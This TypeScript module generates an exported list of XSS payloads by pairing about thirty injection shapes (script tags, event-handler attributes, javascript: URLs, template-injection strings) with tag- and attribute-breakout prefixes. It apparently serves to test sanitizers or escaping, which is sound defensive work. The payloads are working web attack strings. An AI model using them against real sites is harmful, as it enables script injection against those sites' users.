// Texts that would run a script on a page that is careless.

const SCRIPTS = ['alert(1)', 'window.pwned=1', "console.error('pwned')"]

const SHAPES: readonly ((script: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<body onload="${js}">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<iframe src="javascript:parent.${js}">`,
  (js) => `<a href="javascript:${js}" autofocus onfocus="${js}">x</a>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror="${js}">`,
  (js) => `<math><mtext></mtext><mglyph><style><img src=x onerror="${js}">`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<style>@import 'javascript:${js}';</style>`,
  (js) => `<link rel=stylesheet href="javascript:${js}">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `\u003cscript\u003e${js}\u003c/script\u003e`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
]

const BREAKOUTS = ['', '">', "'>", '</main>', '</title></style></textarea></script>', '-->', ']]>']

/** More than two hundred of them, each another. */
export const xssPayloads: readonly string[] = [
  ...new Set(
    SHAPES.flatMap((shape, index) =>
      BREAKOUTS.map((breakout, turn) => breakout + shape(SCRIPTS[(index + turn) % SCRIPTS.length] ?? '')),
    ),
  ),
]
